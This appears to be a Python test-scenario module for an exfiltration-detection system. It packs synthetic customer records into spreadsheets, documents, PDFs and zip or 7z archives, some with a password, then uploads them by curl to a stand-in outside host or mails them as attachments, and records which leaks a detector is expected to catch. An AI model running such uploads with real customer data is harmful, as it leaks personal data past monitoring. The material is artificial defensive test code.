"""Scenarios: customers inside archives, spreadsheets and documents."""

import csv
import io
import json
import subprocess
import zipfile

import servers
from content import customers, customers_file
from network import PYTHON
from registry import Facts, scenario
from scenarios_mail import MX, SEND_SEVERAL, message
from scenarios_web import CURL

PASSWORD = "Winter2026"


def rows(count, seed):
    return list(csv.reader(io.StringIO(customers_file(count, seed).decode(), newline="")))


def xlsx(count, seed, sheet="Customers"):
    import openpyxl
    book = openpyxl.Workbook()
    book.active.title = sheet
    for row in rows(count, seed):
        book.active.append(row)
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


def docx(count, seed):
    import docx as library
    document = library.Document()
    table = document.add_table(rows=0, cols=4)
    for row in rows(count, seed):
        for cell, value in zip(table.add_row().cells, row):
            cell.text = value
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def pdf(count, seed):
    from reportlab.pdfgen import canvas
    made = io.BytesIO()
    page = canvas.Canvas(made)
    for number, row in enumerate(rows(count, seed)):
        page.setFont("Helvetica", 8)
        for x, value in zip((30, 170, 390, 460), row):
            page.drawString(x, 800 - 14 * (number % 55), value.encode("latin-1", "replace").decode("latin-1"))
        if number % 55 == 54:
            page.showPage()
    page.save()
    return made.getvalue()


def zipped(members):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return made.getvalue()


def packed(net, name, content, *options):
    """By 7z."""
    net.write(f"pack-{name}/customers.csv", content)
    target = net.path(name)
    subprocess.run(["7z", "a", *options, target, "customers.csv"], cwd=net.path(f"pack-{name}"), check=True,
                   stdout=subprocess.DEVNULL)
    with open(target, "rb") as made:
        return made.read()


def upload(net, name, content):
    net.office_do(*CURL, "-F", f"file=@{net.write(name, content)}", "http://files.example.net/upload")


@scenario("http-office-files")
def http_office_files(net, record):
    """Uploads by web form: a workbook in a zip, a document, a PDF, a 7z, and a 7z behind a password."""
    servers.web(net, net.outside, "203.0.113.9:80")
    files = {"customers.zip": zipped({"reports/customers.xlsx": xlsx(120, 601, "Sheet1")}), "letter.docx": docx(70, 602),
             "list.pdf": pdf(50, 603), "customers.7z": packed(net, "plain.7z", customers_file(150, 604)),
             "secret.7z": packed(net, "secret.7z", customers_file(6000, 605), f"-p{PASSWORD}")}
    record()
    for name, content in files.items():
        upload(net, f"out/{name}", content)
    facts = Facts().leak(customers(120, 601), ["POST /upload", "customers.zip", "reports/customers.xlsx", "Sheet1"])
    facts.leak(customers(70, 602), ["POST /upload", "letter.docx", "word/document.xml"])
    facts.leak(customers(50, 603), ["POST /upload", "list.pdf", "page 1"])
    facts.leak(customers(150, 604), ["POST /upload", "customers.7z", "customers.csv"])
    return facts.blind("encrypted-archive", "203.0.113.9", 80, len(files["secret.7z"]) * 9 // 10)


@scenario("smtp-office-files")
def smtp_office_files(net, record):
    """Mails with attachments: a workbook in a zip, a document, a PDF, a 7z, and a zip behind a password."""
    servers.mail(net)
    files = {"customers.zip": zipped({"customers.xlsx": xlsx(90, 611, "Sheet1")}), "letter.docx": docx(40, 612),
             "list.pdf": pdf(50, 613), "customers.7z": packed(net, "plain.7z", customers_file(100, 614)),
             "secret.zip": packed(net, "secret.zip", customers_file(3000, 615), "-tzip", f"-p{PASSWORD}")}
    names = []
    for number, (name, content) in enumerate(files.items()):
        mail = message("As agreed", "attached")
        mail.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
        names.append(net.write(f"{number}.eml", mail.as_bytes()))
    record()
    net.office_do(PYTHON, "-c", SEND_SEVERAL, json.dumps(names))
    facts = Facts()
    facts.leak(customers(90, 611), ["mail", "customers.zip", "customers.xlsx", "Sheet1"], email_from="sender0@office.test", **MX)
    facts.leak(customers(40, 612), ["mail", "letter.docx"], email_from="sender1@office.test", **MX)
    facts.leak(customers(50, 613), ["mail", "list.pdf"], email_from="sender2@office.test", **MX)
    facts.leak(customers(100, 614), ["mail", "customers.7z"], email_from="sender3@office.test", **MX)
    return facts.blind("encrypted-archive", "203.0.113.25", 25, len(files["secret.zip"]) * 9 // 10)
